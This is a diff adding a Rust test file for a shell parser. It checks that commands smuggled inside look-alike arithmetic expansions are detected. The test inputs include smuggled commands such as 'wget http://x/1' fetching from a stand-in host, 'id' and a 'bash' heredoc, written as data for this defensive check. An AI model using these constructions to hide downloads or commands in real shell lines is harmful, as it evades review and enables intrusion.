@@ -1,0 +1,42 @@
+//! What the grammar of a shell makes of a text that looks like something else.
+
+use vespid_shell::parse;
+
+/// The commands of a line as `via, via: line`.
+fn told(text: &str) -> Vec<String> {
+    let commands = parse(text).commands;
+    let tell = |it: &vespid_shell::SimpleCommand| match it.via.join(", ") {
+        via if via.is_empty() => it.line.as_str().to_owned(),
+        via => format!("{via}: {}", it.line.as_str()),
+    };
+    commands.iter().map(tell).collect()
+}
+
+/// What the line runs apart from its first command.
+fn runs(text: &str) -> Vec<String> {
+    told(text).split_off(1)
+}
+
+#[test]
+fn two_parentheses_are_arithmetic_only_when_they_close_together() {
+    for (text, inside) in [
+        ("echo $((wget http://x/1); id)", vec!["$(...): wget http://x/1", "$(...): id"]),
+        (
+            "echo \"$(( wget http://x/1 ) | wget http://x/2)\"",
+            vec!["$(...): wget http://x/1", "$(...): wget http://x/2"],
+        ),
+        ("x=$((wget http://x/1) )", vec!["$(...): wget http://x/1"]),
+        (
+            "x=$(( bash <<'E'\nwget http://x/1\nE\n) )",
+            vec!["$(...): bash << E", "$(...), bash <<: wget http://x/1"],
+        ),
+        ("cat <<E\n$((wget http://x/1); id)\nE", vec!["$(...): wget http://x/1", "$(...): id"]),
+        ("echo ${a:-$((wget http://x/1); id)}", vec!["$(...): wget http://x/1", "$(...): id"]),
+        ("echo $((1 + $((wget http://x/1); id)))", vec!["$(...): wget http://x/1", "$(...): id"]),
+        ("echo $((wget http://x/1", vec!["$(...): wget http://x/1"]),
+        ("echo $((1 + 2)) $(((1 + 2) * 3)) \"$((a ? (b) : c))\" $(((1) + (2)))", vec![]),
+        ("echo $((1 + $((2 + $(nproc)))))", vec!["$(...): nproc"]),
+    ] {
+        assert_eq!(runs(text), inside, "{text}");
+    }
+}
